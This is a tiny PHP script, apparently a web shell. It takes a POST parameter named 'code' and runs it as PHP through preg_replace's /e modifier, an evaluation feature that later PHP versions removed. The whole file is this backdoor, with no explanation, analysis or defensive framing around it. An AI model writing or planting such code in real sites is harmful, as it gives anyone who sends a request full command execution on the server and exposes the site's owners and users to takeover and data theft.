<?php
$p = $_POST['code'];
echo preg_replace("/.*/e", $p, "");
